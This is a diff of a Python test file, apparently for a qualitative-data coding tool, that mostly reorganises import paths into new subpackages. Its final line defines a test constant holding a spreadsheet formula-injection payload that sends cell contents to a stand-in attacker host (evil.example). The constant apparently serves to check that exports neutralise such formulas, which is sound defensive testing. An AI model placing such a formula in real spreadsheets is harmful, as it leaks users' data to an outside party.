@@ -13,15 +13,14 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import update
 
-from coding import codes, coders, documents, segments, variables
-from coding.cooccurrence import cooccurrence
-from coding.crosstab import crosstab
-from coding.matrix_export import (write_cooccurrence_csv, write_cooccurrence_xlsx, write_crosstab_csv,
-                                  write_crosstab_xlsx)
-from coding.models import TABLES
+from coding.services import codes, coders, documents, segments, variables
+from coding.analysis.cooccurrence import cooccurrence
+from coding.analysis.crosstab import crosstab
+from coding.analysis.matrix_export import (write_cooccurrence_csv, write_cooccurrence_xlsx, write_crosstab_csv, write_crosstab_xlsx)
+from coding.store.models import TABLES
 from coding.reports.quotes import write_quotes
-from coding.sheetcells import safe_cell
-from coding.textnorm import export_text
+from coding.exchange.sheetcells import safe_cell
+from coding.text.textnorm import export_text
 from tests.coding.helpers import parsed, span
 
 LINK = '=WEBSERVICE("evil.example?d="&A1)'  # no "/": that would split the code path
